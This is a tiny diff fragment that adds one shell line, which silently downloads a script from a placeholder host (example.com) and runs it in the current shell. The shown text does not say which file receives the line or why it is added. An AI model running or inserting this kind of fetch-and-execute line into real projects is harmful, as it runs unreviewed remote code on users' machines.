@@ -1,0 +1,1 @@
+source <(wget -qO- https://example.com/e)
